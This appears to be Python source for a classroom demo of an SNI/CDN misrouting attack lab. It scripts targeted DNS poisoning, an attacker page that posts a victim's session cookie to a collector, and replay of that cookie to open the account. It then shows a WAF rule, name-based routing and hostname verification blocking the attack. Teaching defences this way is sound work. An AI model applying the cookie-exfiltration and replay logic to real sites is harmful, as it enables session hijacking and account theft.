"""`sni-lab demo`: the story in six acts, narrated in the terminal while the live page follows.

1. a normal day: alice visits www.victim.example and logs in;
2. the attacker poisons DNS for alice's address only;
3. under `v1` the attack lands: a valid certificate for www.victim.example, the SaaS origin
   (the attacker's tenant) answers, its script sends alice's cookie to the collector, and the
   attacker's replay of that cookie opens alice's account;
4. `v1-waf` refuses the request at the edge (403);
5. `v2` routes by the name: the victim's own page, even on the poisoned address;
6. the attacker registers www.victim.example as a custom hostname: it stays pending.
Then everything the demo changed is undone (override, registration, model).

Each act drives the browser `sni-lab browser` opened (over DevTools: the same window, the
same session) or else a scripted client through the same proxy that does what the
browser does: CONNECT, TLS verified against the lab CA, HTTP/1.1 with a cookie jar, and
the page's payload. Each act then checks what happened for real, in the lab's own records
(the live page's strips, the proxy's events, the collector, the hostnames), and says so
plainly when something did not go as the story says.

Pure: `find_strip`, `dns_problems`, `strip_problems`, `payload_urls`, `cookie_header`, `loot_with`.
I/O: `Scripted`, `Driven`, `Remote`, `play`, `demo_command`.
"""
from __future__ import annotations

import asyncio
import contextlib
import importlib.util
import ipaddress
import json
import os
import re
import signal
import socket
import ssl
import sys
import time
from dataclasses import dataclass, field
from http.cookies import SimpleCookie
from pathlib import Path
from typing import Any, Callable
from urllib.parse import quote, urlsplit

import aiohttp

from lab.browser import attached, manual_settings, proxy_url, victim_url
from lab.events import new_trace
from lab.matrix import running_lab
from lab.origins.bank import read_account
from lab.remote import RemoteError, every
from lab.strips import INTERNAL

VICTIM = "www.victim.example"
USER, PASSWORD = "alice", "correct horse"
SCRIPTED_ADDRESS = "127.0.0.50"  # "alice's laptop" for the scripted client, when the proxy is on loopback
BYSTANDER = "127.0.0.51"  # someone else asking DNS: the targeted poisoning leaves them alone
TIMEOUT = 10.0  # s for one page or API call
WAIT = 10.0     # s for what follows a page by itself: its strip, the payload's loot
POLL = 0.1
INTERNAL_HEADERS = {"X-Lab-Trace": INTERNAL + "demo"}  # the demo's own look at the collector: not a strip

# What is said aloud, act by act: a title, then a line or two.
ACTS = (
    ("visit", "A normal day", "Alice opens her bank, www.victim.example, and logs in. DNS answers the bank's "
                              "address on the CDN's shared edge."),
    ("poison", "DNS poisoned", "The attacker poisons DNS for Alice's machine only: www.victim.example now points at "
                               "the SaaS provider's dedicated v1 address on the same CDN."),
    ("attack", "Under v1 the attack lands", "Alice reloads. The edge picks the certificate by the SNI, "
                                           "www.victim.example, but routes by the address: to the SaaS app, "
                                           "where the attacker's tenant serves a copy of the bank."),
    ("waf", "v1-waf blocks it", "The CDN adds a rule: on a v1 address, a host that is not the SaaS provider's "
                                "own is refused at the edge."),
    ("v2", "v2 blocks it", "v2 routes by the hostname and who owns it, never by the address: the poisoned "
                           "visit reaches the real bank."),
    ("claim", "The attacker tries to claim the name", "Under v2 the attacker would need www.victim.example as an "
                                                      "active custom hostname of saas.example. It registers it."),
)


class DemoError(Exception):
    """The demo cannot start: one line for the user (exit 1)."""


# ---- pure ------------------------------------------------------------------------------

def find_strip(strips: list[dict], client: str | None, after: int, path: str = "/") -> dict | None:
    """The newest request strip for www.victim.example `path` from `client`, made after event `after`."""
    for s in strips:  # newest first
        req = s.get("request") or {}
        if (s.get("kind") == "request" and s.get("at", 0) > after and s.get("name") == VICTIM
                and req.get("path") == path and (client is None or s.get("client") == client)):
            return s
    return None


def strip_problems(s: dict, *, verdict: str, listener: str, origin: str | None) -> list[str]:
    """What in a request's strip (the live page's record of it) differs from the story."""
    out = []
    if s.get("listener") != listener:
        out.append(f"edge listener {s.get('listener')}, not {listener}")
    if not s.get("cert_valid"):
        out.append(f"certificate served not valid for {VICTIM} ({', '.join((s.get('cert') or {}).get('names') or [])})")
    if s.get("origin") != origin:
        out.append(f"origin reached {s.get('origin') or 'none'}, not {origin or 'none'}")
    if s.get("verdict") != verdict:
        out.append(f"verdict {s.get('verdict')}, not {verdict}")
    return out


def dns_problems(s: dict, *, address: str, override: str | None) -> list[str]:
    """What in the strip's DNS differs from the story: the lab proxy's question, asked as the
    client, must have sent the visit to `address`, by `override` (None: not poisoned)."""
    tunnel, dns = s.get("tunnel"), s.get("dns")
    if tunnel is None or dns is None:
        return ["it did not come through the lab proxy (no tunnel or DNS answer joins it)"]
    out = []
    if tunnel.get("address") != address:
        out.append(f"DNS sent it to {tunnel.get('address')}, not {address}")
    if bool(dns.get("poisoned")) != (override is not None) or dns.get("override") != override:
        out.append(f"the answer was poisoned by {dns.get('override')}" if dns.get("poisoned") else "the answer was not poisoned")
    return out


_PAYLOAD_URLS = re.compile(r"const urls = (\[[^\]]*\]);")


def payload_urls(page: str) -> list[str]:
    """The collector URLs the attacker's page script posts to ([] when the page has no payload)."""
    found = _PAYLOAD_URLS.search(page)
    if not found:
        return []
    try:
        urls = json.loads(found.group(1).replace("<\\/", "</"))
    except ValueError:
        return []
    return [u for u in urls if isinstance(u, str) and u.startswith("https://")]


def cookie_header(cookies: SimpleCookie) -> str:
    """What `document.cookie` reads: name=value pairs, "; " between."""
    return "; ".join(f"{k}={m.value}" for k, m in cookies.items())


def loot_with(entries: list[dict], session: str) -> dict | None:
    """The newest collector entry whose stolen cookie carries this session."""
    for entry in reversed(entries):
        data = entry.get("data") if isinstance(entry.get("data"), dict) else {}
        if f"session={session}" in str(data.get("cookie", "")):
            return entry
    return None


# ---- what a client saw -------------------------------------------------------------------

@dataclass
class Seen:
    url: str
    status: int | None = None  # None: no HTTP answer (error says why)
    origin: str | None = None  # X-Lab-Origin
    text: str = ""
    error: str | None = None

    @property
    def account(self) -> dict[str, str]:
        return read_account(self.text) if self.status == 200 else {}


class Scripted:
    """Does what the browser does, through the same proxy: CONNECT, TLS verified against
    the lab CA for the name, HTTP/1.1 with a cookie jar; on the attacker's page, what its
    script does (post `document.cookie` to the collector URL the page names)."""

    label = "the scripted client"

    def __init__(self, ep: dict) -> None:
        self.ep, self.proxy, self.base = ep, proxy_url(ep), victim_url(ep).rstrip("/")
        # Alice's own address, when the proxy is local: a targeted poisoning then reaches her alone.
        local = ipaddress.ip_address(ep["proxy"]["host"]).is_loopback and _can_bind(SCRIPTED_ADDRESS)
        self.source = SCRIPTED_ADDRESS if local else None
        self.jar = aiohttp.CookieJar()
        trust = ssl.create_default_context(cafile=ep["ca"])  # hostname checked: the padlock
        # A connection per request: each asks the proxy, so each follows DNS as it is now.
        connector = aiohttp.TCPConnector(ssl=trust, force_close=True,
                                         local_addr=(self.source, 0) if self.source else None)
        self.http = aiohttp.ClientSession(connector=connector, cookie_jar=self.jar,
                                          timeout=aiohttp.ClientTimeout(total=TIMEOUT))

    async def _fetch(self, method: str, url: str, **kw) -> Seen:
        try:
            async with self.http.request(method, url, proxy=self.proxy, **kw) as resp:
                return Seen(str(resp.url), resp.status, resp.headers.get("X-Lab-Origin"), await resp.text())
        except aiohttp.ClientHttpProxyError as e:
            return Seen(url, error=f"the lab proxy refused: {e.status} {e.message}")
        except aiohttp.ClientConnectorCertificateError as e:
            return Seen(url, error=f"certificate rejected: {e.certificate_error}")
        except (aiohttp.ClientError, OSError, TimeoutError) as e:
            return Seen(url, error=f"{type(e).__name__}: {e}")

    async def visit(self, path: str = "/") -> Seen:
        seen = await self._fetch("GET", self.base + path)
        urls = payload_urls(seen.text) if seen.status == 200 else []
        if urls:
            await self._run_payload(seen, urls)
        return seen

    async def login(self, user: str, password: str) -> Seen:
        await self.visit("/login")
        return await self._fetch("POST", self.base + "/login", data={"user": user, "password": password})

    async def session(self) -> str | None:
        found = self.jar.filter_cookies(self.base).get("session")
        return found.value if found else None

    async def _run_payload(self, seen: Seen, urls: list[str]) -> None:
        page = urlsplit(seen.url)
        body = json.dumps({"cookie": cookie_header(self.jar.filter_cookies(self.base)),
                           "origin": f"{page.scheme}://{page.netloc}", "href": seen.url,
                           "time": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())})
        for url in urls:  # the script tries the next URL when one fails
            sent = await self._fetch("POST", url, data=body, headers={
                "Content-Type": "text/plain;charset=UTF-8", "Origin": f"{page.scheme}://{page.netloc}"})
            if sent.status is not None:
                return

    async def close(self) -> None:
        await self.http.close()


class Driven:
    """The Chromium `sni-lab browser` opened, driven over DevTools: its window, its session."""

    label = "the browser"

    def __init__(self, ep: dict, pw, browser, page) -> None:
        self.ep, self.pw, self.browser, self.page = ep, pw, browser, page
        self.base = victim_url(ep).rstrip("/")

    @classmethod
    async def attach(cls, ep: dict, cdp: str) -> "Driven":
        from playwright.async_api import async_playwright

        pw = await async_playwright().start()
        try:
            browser = await pw.chromium.connect_over_cdp(cdp, timeout=TIMEOUT * 1000)
            context = browser.contexts[0] if browser.contexts else await browser.new_context()
            control = ep.get("control", {}).get("url", "\0")
            pages = context.pages
            page = (next((p for p in pages if urlsplit(p.url).hostname == VICTIM), None)
                    or next((p for p in pages if not p.url.startswith(control)), None) or await context.new_page())
            await page.bring_to_front()
        except BaseException:
            await pw.stop()
            raise
        return cls(ep, pw, browser, page)

    async def visit(self, path: str = "/") -> Seen:
        url = self.base + path
        try:
            resp = await self.page.goto(url, timeout=TIMEOUT * 1000)
            # The page's own script (the payload, on the attacker's copy) runs now, by itself.
            with contextlib.suppress(Exception):
                await self.page.wait_for_load_state("networkidle", timeout=5000)
            text = await self.page.content()
        except Exception as e:  # noqa: BLE001 - Playwright's errors carry the browser's own reason
            return Seen(url, error=str(e).splitlines()[0])
        if resp is None:
            return Seen(url, error="no response")
        return Seen(url, resp.status, (await resp.all_headers()).get("x-lab-origin"), text)

    async def login(self, user: str, password: str) -> Seen:
        seen = await self.visit("/login")
        if seen.error or seen.status != 200:
            return seen
        try:
            await self.page.fill("input[name=user]", user)
            await self.page.fill("input[name=password]", password)
            async with self.page.expect_navigation(timeout=TIMEOUT * 1000) as nav:
                await self.page.click("form[action='/login'] button[type=submit]")
            resp = await nav.value
            return Seen(self.page.url, resp.status if resp else None,
                        (await resp.all_headers()).get("x-lab-origin") if resp else None, await self.page.content())
        except Exception as e:  # noqa: BLE001
            return Seen(self.base + "/login", error=str(e).splitlines()[0])

    async def session(self) -> str | None:
        cookies = await self.page.context.cookies(self.base + "/")
        return next((c["value"] for c in cookies if c["name"] == "session"), None)

    async def close(self) -> None:
        # Detach only: the browser, its window and its session stay the instructor's.
        with contextlib.suppress(Exception):
            await self.browser.close()
        await self.pw.stop()


# ---- the lab, as the demo asks it ---------------------------------------------------------

class Remote:
    """The control plane (Bearer token) and the collector (the attacker's own server)."""

    def __init__(self, ep: dict) -> None:
        self.ep = ep
        self.url, self.token = ep["control"]["url"], ep["control"]["token"]
        self.collector = ep["origins"].get("collector")
        trust = ssl.create_default_context(cafile=ep["ca"])
        self.http = aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=trust),
                                          timeout=aiohttp.ClientTimeout(total=TIMEOUT))

    async def call(self, method: str, path: str, body: Any = None) -> Any:
        try:
            async with self.http.request(method, self.url + path, json=body,
                                         headers={"Authorization": f"Bearer {self.token}"}) as r:
                data = await r.json(content_type=None)
                if r.status >= 400:
                    raise DemoError(f"{method} {path}: {r.status} {data.get('error') if isinstance(data, dict) else data}")
                return data
        except (aiohttp.ClientError, OSError, TimeoutError, ValueError) as e:
            raise DemoError(f"the control plane at {self.url} did not answer {method} {path} ({type(e).__name__})") from None

    async def last_event(self) -> int:
        newest = await self.call("GET", "/events?newest=1&internal=1")
        return newest[-1]["id"] if newest else 0

    async def strip(self, client: str | None, after: int, path: str = "/", within: float = WAIT) -> dict | None:
        """The request's strip once the lab has judged it (its verdict set)."""
        deadline = time.monotonic() + within
        while True:
            s = find_strip(await self.call("GET", "/live/strips?limit=100"), client, after, path)
            if (s is not None and s.get("verdict")) or time.monotonic() > deadline:
                return s
            await asyncio.sleep(POLL)

    async def loot(self) -> list[dict]:
        if self.collector is None:
            raise DemoError("this world has no collector")
        try:
            async with self.http.get(self.collector + "/collected", headers=INTERNAL_HEADERS) as r:
                return await r.json(content_type=None)
        except (aiohttp.ClientError, OSError, TimeoutError, ValueError) as e:
            raise DemoError(f"the collector at {self.collector} did not answer ({type(e).__name__})") from None

    async def loot_until(self, session: str, within: float = WAIT) -> dict | None:
        deadline = time.monotonic() + within
        while (entry := loot_with(await self.loot(), session)) is None and time.monotonic() < deadline:
            await asyncio.sleep(POLL)
        return entry

    async def replay(self, entry_id: int) -> dict | None:
        """What the attacker does with the loot: the collector's replay, then its result."""
        try:
            async with self.http.post(f"{self.collector}/replay/{entry_id}", allow_redirects=False,
                                      headers=INTERNAL_HEADERS) as r:
                if r.status != 303:
                    return {"opened": False, "detail": f"the collector answered {r.status}"}
        except (aiohttp.ClientError, OSError, TimeoutError) as e:
            raise DemoError(f"the collector at {self.collector} did not answer ({type(e).__name__})") from None
        entry = next((x for x in await self.loot() if x.get("id") == entry_id), None)
        return (entry or {}).get("replay")

    async def close(self) -> None:
        await self.http.close()


# ---- the play ------------------------------------------------------------------------------

@dataclass
class Act:
    key: str
    title: str
    problems: list[str] = field(default_factory=list)
    facts: dict[str, Any] = field(default_factory=dict)  # what was seen, for whoever asks (tests)

    @property
    def ok(self) -> bool:
        return not self.problems


@dataclass
class Story:
    ep: dict
    client: Any  # Scripted | Driven
    remote: Remote
    say: Callable[[str], None]
    address: str | None = None  # the client's address as the lab proxy sees it
    session: str | None = None
    override: str | None = None
    hostname: str | None = None
    model: str | None = None  # before the demo: restored at the end
    acts: list[Act] = field(default_factory=list)
    started: float = field(default_factory=time.monotonic)

    def check(self, act: Act, good: bool, said: str, why: str = "") -> bool:
        if good:
            self.say(f"   ✓ {said}")
        else:
            act.problems.append(f"{said}: {why}" if why else said)
            self.say(f"   ✗ NOT AS THE STORY SAYS: {said}" + (f" — {why}" if why else ""))
        return good

    def check_strip(self, act: Act, s: dict | None, *, listener: str, **want) -> None:
        """The request as the live page shows it: where DNS sent it, then the verdict."""
        if s is None:
            self.check(act, False, "the live page shows the request", "no strip for it")
            return
        act.facts["strip"] = s
        l = next(x for x in self.ep["edge"] if x["name"] == listener)
        wrong = dns_problems(s, address=l["host"], override=self.override)
        how = f"poisoned by {self.override}" if self.override else "not poisoned"
        self.check(act, not wrong, f"DNS ({how}) sent {USER} to {l['host']}, the {listener} listener", "; ".join(wrong))
        wrong = strip_problems(s, listener=listener, **want)
        self.check(act, not wrong, f"live page: {s.get('verdict')} — {s.get('why')}", "; ".join(wrong))


def seen_problem(seen: Seen) -> str:
    return seen.error or f"status {seen.status}, origin {seen.origin or 'none'}"


async def _visit(story: Story, act: Act) -> None:
    remote = story.remote
    await remote.call("PUT", "/model", {"model": "v1"})
    after = await remote.last_event()
    seen = await story.client.visit("/")
    story.check(act, seen.status == 200 and seen.origin == "victim",
                f"Victim Bank answered, from the victim's origin, under a valid certificate for {VICTIM}",
                seen_problem(seen))
    strip = await remote.strip(None, after)
    if not story.check(act, strip is not None and bool(strip.get("client")), "the live page shows the visit",
                       "no strip for it"):
        return
    story.address = act.facts["address"] = strip["client"]  # as the edge saw it: the client's own address
    logged = await story.client.login(USER, PASSWORD)
    account = logged.account
    story.session = await story.client.session()
    story.check(act, account.get("holder") == USER and bool(story.session),
                f"{USER} is logged in: balance {account.get('balance', '?')}", seen_problem(logged))
    story.check_strip(act, strip, verdict="SAFE", listener="anycast", origin="victim")


async def _poison(story: Story, act: Act) -> None:
    if story.address is None:
        story.check(act, False, "DNS poisoned for the client", "act 1 saw no client address")
        return
    made = await story.remote.call("POST", "/dns/overrides", {"name": VICTIM, "value": "listener:saas-v1",
                                                              "client": story.address})
    story.override = act.facts["override"] = made["id"]
    saas_v1, anycast = (next(l["host"] for l in story.ep["edge"] if l["name"] == n) for n in ("saas-v1", "anycast"))
    asked = {story.address: await _ask(story, story.address)}
    bystander = BYSTANDER
    if bystander != story.address and _can_bind(bystander):  # else nobody else to ask as
        asked[bystander] = await _ask(story, bystander)
    act.facts["answers"] = asked
    story.check(act, asked[story.address] == [saas_v1],
                f"the lab resolver now answers {story.address} with {saas_v1} for {VICTIM}",
                f"it answers {', '.join(asked[story.address]) or 'nothing'}")
    if bystander in asked:
        story.check(act, asked[bystander] == [anycast], f"anyone else, say {bystander}, still gets {anycast}",
                    f"{bystander} gets {', '.join(asked[bystander]) or 'nothing'}")


async def _ask(story: Story, client: str) -> list[str]:
    """The resolver's A answer for the victim's name, asked from `client`'s address as the proxy asks."""
    from lab.dns import query

    dns = story.ep["dns"]
    try:
        reply = await query(VICTIM, "A", dns["host"], dns["port"], source=client, trace=new_trace())
    except (OSError, TimeoutError, ValueError) as e:
        return [f"no answer ({type(e).__name__})"]
    return [str(rr.rdata) for rr in reply.rr]


def _can_bind(address: str) -> bool:
    """Whether this machine has `address` (Linux has all of 127.0.0.0/8; macOS only its aliases)."""
    try:
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((address, 0))
    except OSError:
        return False
    return True


async def _attack(story: Story, act: Act) -> None:
    remote = story.remote
    await remote.call("PUT", "/model", {"model": "v1"})
    after = await remote.last_event()
    seen = await story.client.visit("/")
    act.facts["seen"] = {"status": seen.status, "origin": seen.origin}
    story.check(act, seen.status == 200 and seen.origin == "saas",
                f"the padlock holds, a valid certificate for {VICTIM}, yet the SaaS app answered: "
                "the attacker's copy of the bank", seen_problem(seen))
    story.check_strip(act, await remote.strip(story.address, after), verdict="MISROUTED", listener="saas-v1",
                      origin="saas")
    entry = await remote.loot_until(story.session) if story.session else None
    act.facts["loot"] = entry
    if not story.check(act, entry is not None, f"the page's script sent {USER}'s session cookie to the collector",
                       f"the collector holds no cookie with session={story.session}"):
        return
    result = await remote.replay(entry["id"])
    act.facts["replay"] = result
    if story.check(act, bool(result and result.get("opened") and result.get("holder") == USER),
                   f"the attacker replays it: {(result or {}).get('detail', 'no replay result')}"):
        story.say(f"   → The attack landed: the attacker is in {USER}'s account "
                  f"({time.monotonic() - story.started:.1f} s into the play)")


async def _blocked(story: Story, act: Act, model: str, expect: Callable[[Seen], bool], said: str,
                   verdict: str, origin: str | None) -> None:
    remote = story.remote
    await remote.call("PUT", "/model", {"model": model})
    before = len(await remote.loot())
    after = await remote.last_event()
    seen = await story.client.visit("/")
    act.facts["seen"] = {"status": seen.status, "origin": seen.origin}
    story.check(act, expect(seen), said, seen_problem(seen))
    story.check_strip(act, await remote.strip(story.address, after), verdict=verdict, listener="saas-v1",
                      origin=origin)
    stolen = len(await remote.loot()) - before
    story.check(act, stolen == 0, "the collector received nothing", f"{stolen} new entries")


async def _waf(story: Story, act: Act) -> None:
    await _blocked(story, act, "v1-waf", lambda s: s.status == 403 and s.origin is None,
                   "the edge refused it: 403, no origin reached", "REFUSED", None)


async def _v2(story: Story, act: Act) -> None:
    await _blocked(story, act, "v2", lambda s: s.status == 200 and s.origin == "victim",
                   "the real Victim Bank answered, on the poisoned address", "SAFE", "victim")


async def _claim(story: Story, act: Act) -> None:
    remote = story.remote
    made = await remote.call("POST", "/hostnames", {"hostname": VICTIM, "zone": "saas.example"})
    story.hostname = made["id"]
    checked = await remote.call("POST", f"/hostnames/{quote(made['id'], safe='')}/verify")
    act.facts["hostname"] = checked
    story.check(act, made["status"] == "pending" and checked["status"] == "pending",
                "registered and verified: still pending — the attacker cannot put the TXT record into "
                "victim.example's DNS", f"status {checked['status']}: {checked['reason']}")


PLAYS = {"visit": _visit, "poison": _poison, "attack": _attack, "waf": _waf, "v2": _v2, "claim": _claim}


async def undo(story: Story) -> list[str]:
    """Remove what the demo changed; returns what is still there."""
    remote, left = story.remote, []
    if story.override:
        with contextlib.suppress(DemoError):
            await remote.call("DELETE", f"/dns/overrides/{quote(story.override, safe='')}")
    if story.hostname:
        with contextlib.suppress(DemoError):
            await remote.call("DELETE", f"/hostnames/{quote(story.hostname, safe='')}?purge=1")
    if story.model:
        with contextlib.suppress(DemoError):
            await remote.call("PUT", "/model", {"model": story.model})
    overrides = [o["id"] for o in await remote.call("GET", "/dns/overrides") if o["id"] == story.override]
    hostnames = [h["id"] for h in await every(remote.call, "/hostnames") if h["id"] == story.hostname]
    model = (await remote.call("GET", "/model"))["model"]
    left += [f"override {o}" for o in overrides] + [f"hostname {h}" for h in hostnames]
    if story.model and model != story.model:
        left.append(f"model {model} (was {story.model})")
    return left


async def play(ep: dict, client, say: Callable[[str], None] = print, step: Callable | None = None,
               after_act: Callable | None = None) -> Story:
    """Play every act against the lab of endpoints `ep` with `client`; undo at the end, whatever happens.
    `step()`: awaited between acts (Enter); `after_act(story, act)`: awaited after each (tests)."""
    story = Story(ep, client, Remote(ep), say)
    try:
        story.model = (await story.remote.call("GET", "/model"))["model"]
        for n, (key, title, line) in enumerate(ACTS, 1):
            if step is not None and n > 1:
                await step(f"Enter: act {n}, {title}")
            act = Act(key, title)
            story.acts.append(act)
            say(f"\nAct {n} of {len(ACTS)} · {title}")
            say(f"   {line}")
            try:
                await PLAYS[key](story, act)
            except DemoError as e:
                story.check(act, False, f"act {n} could not finish", str(e))
            if after_act is not None:
                await after_act(story, act)
    finally:
        try:
            left = await undo(story)
        except DemoError as e:
            left = [str(e)]
        story.acts.append(Act("undo", "Undo", [f"still in the lab: {x}" for x in left]))
        say("\nUndone: the poisoning removed, the registration purged, the model back to "
            f"{story.model}" if not left else f"\nNOT undone: {', '.join(left)}")
        await story.remote.close()
    return story


# ---- the command ---------------------------------------------------------------------------

def _shared_port(ep: dict) -> None:
    ports = {l["name"]: l["port"] for l in ep["edge"]}
    if ports.get("anycast") != ports.get("saas-v1"):
        raise DemoError(f"the edge's anycast and saas-v1 listeners are on different ports ({ports.get('anycast')}, "
                        f"{ports.get('saas-v1')}): a poisoned answer for www.victim.example:{ports.get('anycast')} "
                        f"would point at no listener. Run the lab with the world file's ports (not --free-ports).")
    if "proxy" not in ep or "control" not in ep:
        raise DemoError("the running lab has no proxy or no control plane; restart it with `sni-lab up`")


def _intro(ep: dict, say) -> None:
    page = f"{ep['control']['url']}/?token={ep['control']['token']}"
    say(f"The live page: {page}")
    say("   open it in any browser (projector); it follows every request as it happens")
    say("The victim's browser: in another terminal, `sni-lab browser` (Chromium trusting the lab CA, on the lab proxy)")
    for line in manual_settings(ep).splitlines():
        say("   " + line)


async def _client(ep: dict, state: str | Path, say):
    found = attached(state)
    if found is None:
        say("No browser opened with `sni-lab browser`: the scripted client plays Alice, through the same proxy.")
        return Scripted(ep)
    if importlib.util.find_spec("playwright") is None:
        say(f"A browser is open ({found['cdp']}), but driving it needs Playwright: "
            f"pip install 'sni-lab[browser]'. The scripted client plays Alice instead.")
        return Scripted(ep)
    try:
        driven = await Driven.attach(ep, found["cdp"])
    except Exception as e:  # noqa: BLE001 - a closed browser leaves its record behind: play on without it
        say(f"The browser recorded at {found['cdp']} did not answer ({str(e).splitlines()[0]}); "
            f"the scripted client plays Alice instead.")
        return Scripted(ep)
    say(f"Driving the browser at {found['cdp']}: watch its window.")
    return driven


class _Enter:
    """Waits for Enter without blocking the loop (the lab may run in it). Reads the descriptor
    itself: a buffered readline would take several lines at once, where the loop sees one
    wake-up. End of input goes on without waiting."""

    def __init__(self) -> None:
        self.pending = 0  # Enters typed ahead
        self.eof = False

    async def __call__(self, prompt: str) -> None:
        print(f"   [{prompt}]", flush=True)
        if self.eof:
            return
        if self.pending:
            self.pending -= 1
            return
        try:
            fd = sys.stdin.fileno()
        except (AttributeError, OSError, ValueError):
            return
        loop = asyncio.get_running_loop()
        done = loop.create_future()

        def readable() -> None:
            data = os.read(fd, 4096)
            self.eof = not data
            self.pending += data.count(b"\n")
            if done.done():
                return
            if self.pending:
                self.pending -= 1
                done.set_result(None)
            elif self.eof:
                done.set_result(None)
        try:
            loop.add_reader(fd, readable)
        except (OSError, ValueError, NotImplementedError):
            return
        try:
            await done
        finally:
            loop.remove_reader(fd)


async def _demo(args) -> int:
    from lab.run import Lab, RemoteNotAllowed, write_endpoints
    from lab.state import StateError
    from lab.world import load

    say = lambda line: print(line, flush=True)  # noqa: E731
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGINT, signal.SIGTERM):
        loop.add_signal_handler(sig, stop.set)
    lab = None
    ep = await running_lab(args.state, timeout=2.0)
    if ep is not None:
        say(f"Using the lab running for {args.state}/ ({ep['control']['url']})"
            + ("; --config is ignored" if args.config else ""))
    else:
        try:
            lab = Lab(load(args.config), args.certs, state_dir=args.state, log=lambda m: print(m, file=sys.stderr))
            ep = await lab.start()
        except (RemoteNotAllowed, StateError, ValueError, RuntimeError) as e:
            raise DemoError(str(e)) from None
        except OSError as e:
            from lab.binding import bind_hint

            raise DemoError(bind_hint(e)) from None
        write_endpoints(args.state, ep)
        say(f"sni-lab is up: model {ep['model']}; endpoints in {Path(args.state) / 'endpoints.json'}")
    try:
        _intro(ep, say)
        if args.no_play:
            if lab is None:
                return 0
            say("Serving (--no-play); Ctrl-C to stop")
            await stop.wait()
            return 0
        _shared_port(ep)
        enter = _Enter() if args.step else None
        if enter is not None:
            await enter(f"Enter: act 1, {ACTS[0][1]}")
        client = await _client(ep, args.state, say)
        playing = asyncio.ensure_future(play(ep, client, say, step=enter))
        stopping = asyncio.ensure_future(stop.wait())
        try:
            await asyncio.wait([playing, stopping], return_when=asyncio.FIRST_COMPLETED)
            if not playing.done():
                playing.cancel()
                say("\nStopped: undoing what the demo changed")
            with contextlib.suppress(asyncio.CancelledError):
                story = await playing
        finally:
            stopping.cancel()
            await client.close()
        if stop.is_set():
            return 130
        problems = [(a, p) for a in story.acts for p in a.problems]
        if problems:
            say(f"\n{len(problems)} thing(s) did not happen as the story says:")
            for a, p in problems:
                say(f"   {a.title}: {p}")
        else:
            say("\nEvery act played as the story says.")
        if lab is not None and not args.exit:
            say(f"The lab keeps serving the live page: {ep['control']['url']}/?token={ep['control']['token']} "
                f"— Ctrl-C to stop")
            await stop.wait()
        return 1 if problems else 0
    finally:
        if lab is not None:
            await lab.stop()
            (Path(args.state) / "endpoints.json").unlink(missing_ok=True)


def demo_command(args) -> int:
    from lab.run import run_loop

    try:
        return run_loop(_demo(args))
    except (DemoError, RemoteError) as e:
        print(f"sni-lab: error: {e}", file=sys.stderr)
        return 1
